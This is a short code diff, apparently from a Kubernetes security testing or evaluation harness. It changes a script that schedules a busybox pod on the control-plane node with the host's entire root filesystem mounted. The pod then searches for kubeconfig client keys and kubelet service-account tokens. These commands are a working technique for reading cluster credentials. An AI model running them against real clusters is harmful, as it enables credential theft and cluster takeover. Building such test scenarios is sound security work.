@@ -21,7 +21,7 @@ _POD = (
 )
 _HOST_POD = (
     """'{"spec": {"nodeName": "control-plane", "tolerations": [{"operator": "Exists"}], "volumes": [{"name": "host", """
-    """"hostPath": {"path": "/etc/kubernetes"}}], "containers": [{"name": "x", "image": "busybox:1.36", """
+    """"hostPath": {"path": "/"}}], "containers": [{"name": "x", "image": "busybox:1.36", """
     """"command": ["sleep", "3600"], "volumeMounts": [{"name": "host", "mountPath": "/host"}]}]}}'"""
 )
 
@@ -81,7 +81,8 @@ SCRIPTS = (
         "node files by hostPath",
         f"kubectl -n {{ns}} run reader --image=busybox:1.36 --overrides {_HOST_POD}\n"
         "kubectl -n {ns} wait --for=condition=Ready pod/reader --timeout=60s\n"
-        "kubectl -n {ns} exec reader -- grep -r client-key-data /host",
+        "kubectl -n {ns} exec reader -- sh -c "
+        "'grep -r client-key-data /host/etc/kubernetes || find /host/var/lib/kubelet -name token | grep token'",
         speed=5.0,
     ),
     WiderRights(
